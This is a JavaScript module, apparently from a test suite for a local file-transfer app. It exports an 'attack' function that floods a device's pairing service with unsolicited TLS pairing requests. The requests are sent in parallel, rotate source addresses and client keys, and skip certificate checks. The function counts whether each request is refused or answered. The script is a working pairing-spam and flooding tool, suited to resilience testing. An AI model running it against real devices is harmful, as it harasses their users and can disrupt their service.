// Wants to pair, again and again, with a device whose user does not.

import { connect } from "node:tls";
import { inParallel, Tally } from "../crowd.mjs";
import { stranger } from "../strangers.mjs";

const TIMEOUT_MS = 15_000;

const keys = Array.from({ length: 8 }, stranger);

function frame(message) {
  const json = Buffer.from(JSON.stringify(message));
  const head = Buffer.alloc(5, 1); // type 1: a message
  head.writeUInt32BE(1 + json.length);
  return Buffer.concat([head, json]);
}
const HELLO = frame({ t: "pair-hello", sid: "a".repeat(26), name: "anna", port: 25726 });

/** @param {{ host: string, port: number, count: number, width: number, from: string[] }} parameters */
export async function attack({ host, port, count, width, from }) {
  const tally = new Tally();
  await inParallel(count, width, async (n) => {
    const socket = connect({
      host,
      port,
      localAddress: from[n % from.length],
      servername: "",
      rejectUnauthorized: false,
      ALPNProtocols: ["lanxfer-pair/1"],
      ...keys[n % keys.length],
    });
    let met = "turned away";
    socket.on("secureConnect", () => socket.write(HELLO));
    socket.on("data", (data) => {
      met = data.includes('{"t":"pair-refuse"}') ? "refused" : "answered";
    });
    socket.on("error", () => {});
    socket.setTimeout(TIMEOUT_MS, () => socket.destroy());
    socket.on("end", () => socket.end());
    await new Promise((resolve) => socket.once("close", resolve));
    tally.add(met);
  });
  return { attempts: count, counts: tally.counts };
}
